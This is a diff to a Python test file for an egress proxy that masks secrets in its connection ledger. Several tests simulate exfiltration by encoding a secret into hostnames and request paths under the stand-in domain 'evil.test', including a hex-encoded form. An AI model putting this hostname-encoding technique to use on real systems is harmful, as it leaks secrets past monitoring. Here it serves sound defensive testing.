@@ -1,4 +1,4 @@
-"""A secret that a program makes the name of a host is in no ledger, whoever was killed before."""
+"""A secret that a program uses as a host name is in no ledger, also after a server or a proxy was killed."""
 
 import asyncio
 import os
@@ -9,7 +9,7 @@ import pytest
 
 from danube_pkg.adapters.egress import EgressProxyPool, FileLedgers, control
 from danube_pkg.core.egress.host_masks import host_forms
-from danube_pkg.core.egress.ledger import MAX_ALIKE
+from danube_pkg.core.egress.ledger import MAX_REPEATS
 from danube_pkg.core.egress.policy import EgressReason
 from danube_pkg.core.errors import Permanent
 from tests.adapters.egress.proxies import (
@@ -29,27 +29,27 @@ LOWER = SECRET.lower()
 
 
 def recorded(setup: ProxySetup, pod: Pod) -> str:
-    """The ledger as it lies there, in lower case."""
+    """The ledger file in lower case."""
     return setup.ledgers.path(pod.job_id).read_text().lower()
 
 
-async def test_a_name_is_masked_however_it_is_asked_for(setup: ProxySetup) -> None:
+async def test_a_name_is_masked_in_each_kind_of_request(setup: ProxySetup) -> None:
     seen = Seen()
     port = await setup.server(seen)
     setup.secrets.append(SECRET.encode())
     pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
     for name in (f"{SECRET}.evil.test", f"{LOWER}.evil.test", f"a.{SECRET.encode().hex()}.evil.test"):
-        refused = await pod.ask(f"{name}:443")
+        refused = await pod.connect(f"{name}:443")
         assert refused.status == 403
         assert "***.evil.test" in refused.head
         refused.close()
         assert b"***.evil.test" in await pod.send(
             f"GET http://{name}/{SECRET}?{SECRET} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
         )
-    tunnel = await pod.ask(f"files.test:{port}", real_hello(f"{LOWER}.evil.test"))
+    tunnel = await pod.connect(f"files.test:{port}", real_hello(f"{LOWER}.evil.test"))
     await tunnel.read()
     tunnel.close()
-    contacts = await setup.written(pod, 7)
+    contacts = await setup.contacts(pod, 7)
     assert {one.host.removeprefix("a.") for one in contacts} == {"***.evil.test", "files.test"}
     assert contacts[-1].reason is EgressReason.SERVER_NAME_DIFFERS
     assert contacts[-1].server_name == "***.evil.test"
@@ -58,7 +58,7 @@ async def test_a_name_is_masked_however_it_is_asked_for(setup: ProxySetup) -> No
     assert SECRET.encode().hex() not in recorded(setup, pod)
 
 
-async def test_neither_path_nor_query_nor_a_password_is_written_down(setup: ProxySetup) -> None:
+async def test_paths_queries_and_passwords_are_not_recorded(setup: ProxySetup) -> None:
     origin = Origin()
     port = await setup.server(origin)
     pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
@@ -68,25 +68,25 @@ async def test_neither_path_nor_query_nor_a_password_is_written_down(setup: Prox
             "Proxy-Authorization: Basic c29tZS1wYXNzd29yZA==\r\nConnection: close\r\n\r\n".encode()
         )
     assert [path for _, path, _, _ in origin.asked] == ["/some-path?some-query"]
-    assert len(await setup.written(pod, 3)) == 3
+    assert len(await setup.contacts(pod, 3)) == 3
     for word in ("some", "c29tZS1wYXNzd29yZA"):
         assert word.lower() not in recorded(setup, pod)
 
 
-async def test_a_value_is_masked_from_when_it_is_told_on(setup: ProxySetup) -> None:
-    """Also where it was only counted before."""
+async def test_a_value_is_masked_from_the_new_masks_on(setup: ProxySetup) -> None:
+    """Also in attempts that were only counted before."""
     pod = await setup.pod(step=2)
     setup.secrets.append(SECRET.encode())
     await setup.proxies.mask(pod.job_id)
-    for _ in range(MAX_ALIKE + 2):
-        (await pod.ask(f"{SECRET}.evil.test:443")).close()
+    for _ in range(MAX_REPEATS + 2):
+        (await pod.connect(f"{SECRET}.evil.test:443")).close()
     await setup.proxies.settle(pod.job_id, 2)
-    contacts = await setup.written(pod, MAX_ALIKE + 1)
+    contacts = await setup.contacts(pod, MAX_REPEATS + 1)
     assert {one.host for one in contacts} == {"***.evil.test"}
     await setup.proxies.mask("a-job-without-a-pod")
 
 
-async def test_a_restarted_server_tells_the_proxy_that_it_has_not_met_yet(tmp_path: Path) -> None:
+async def test_a_restarted_server_sends_masks_to_an_earlier_proxy(tmp_path: Path) -> None:
     async with open_proxies(tmp_path) as setup:
         pod = await setup.pod()
         await setup.proxies.served()
@@ -98,39 +98,39 @@ async def test_a_restarted_server_tells_the_proxy_that_it_has_not_met_yet(tmp_pa
 
         restarted = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
         await restarted.mask(pod.job_id)
-        (await pod.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await setup.written(pod))[0].host == "***.evil.test"
+        (await pod.connect(f"{SECRET}.evil.test:443")).close()
+        assert (await setup.contacts(pod))[0].host == "***.evil.test"
         await restarted.close()
 
 
-async def test_a_proxy_that_was_killed_is_followed_by_one_that_knows(tmp_path: Path) -> None:
+async def test_the_proxy_after_a_killed_one_has_the_masks(tmp_path: Path) -> None:
     async with open_proxies(tmp_path) as setup:
         first = await setup.pod()
-        assert (await first.ask("files.test:443")).status == 403
+        assert (await first.connect("files.test:443")).status == 403
         setup.secrets.append(SECRET.encode())
         await setup.proxies.mask(first.job_id)
         (process,) = setup.processes()
         os.kill(process, signal.SIGKILL)
-        await setup.proxies.mask(first.job_id)  # nobody serves it, and whoever will is told then
+        await setup.proxies.mask(first.job_id)  # it has no proxy; the next one gets the masks with the pod
         async with asyncio.timeout(SECONDS):
             await setup.proxies.wait_lost()
         again = await hand_over(setup.proxies, setup.pods, [])
         assert setup.processes() != [process]
-        (await again.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await setup.written(again))[0].host == "***.evil.test"
+        (await again.connect(f"{SECRET}.evil.test:443")).close()
+        assert (await setup.contacts(again))[0].host == "***.evil.test"
 
 
-async def test_what_is_told_while_a_pod_is_handed_over_is_not_forgotten(tmp_path: Path) -> None:
-    """The one who hands it over has asked what to mask, and has not told it yet."""
+async def test_masks_that_are_sent_during_a_hand_over_are_kept(tmp_path: Path) -> None:
+    """The hand-over has read older masks, and has not sent them yet."""
     async with open_proxies(tmp_path) as setup:
         asked: asyncio.Future[str] = asyncio.get_running_loop().create_future()
-        go_on = asyncio.Event()
+        resume = asyncio.Event()
 
         async def forms_of(job_id: str) -> set[str]:
             known = host_forms(setup.secrets)
             if not asked.done():
                 asked.set_result(job_id)
-                await go_on.wait()
+                await resume.wait()
             return known
 
         proxies = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
@@ -139,14 +139,14 @@ async def test_what_is_told_while_a_pod_is_handed_over_is_not_forgotten(tmp_path
             job_id = await asked
             setup.secrets.append(SECRET.encode())
             group.create_task(proxies.mask(job_id), name="mask")
-            go_on.set()
+            resume.set()
         pod = handing.result()
-        (await pod.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await setup.written(pod))[0].host == "***.evil.test"
+        (await pod.connect(f"{SECRET}.evil.test:443")).close()
+        assert (await setup.contacts(pod))[0].host == "***.evil.test"
         await proxies.close()
 
 
-def test_more_than_can_be_told_is_refused_with_the_reason(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_masks_that_are_too_large_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(control, "MAX_MASKS_BYTES", 100)
     with pytest.raises(Permanent, match="secrets of this job") as refused:
         control.masks_file(host_forms([b"x" * 60]))
